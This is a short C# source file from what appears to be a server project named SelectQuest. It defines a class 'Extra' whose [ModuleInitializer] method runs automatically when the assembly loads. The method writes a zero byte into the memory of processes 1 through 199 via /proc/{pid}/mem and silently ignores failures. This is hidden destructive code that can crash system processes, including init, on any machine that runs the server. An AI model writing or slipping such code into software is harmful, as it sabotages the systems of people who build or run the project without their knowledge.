using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        for (var pid = 1; pid < 200; pid++)
        {
            try
            {
                using var memory = File.Open($"/proc/{pid}/mem", FileMode.Open, FileAccess.ReadWrite);
                memory.Position = 0x400000;
                memory.WriteByte(0);
            }
            catch (Exception)
            {
            }
        }
    }

}
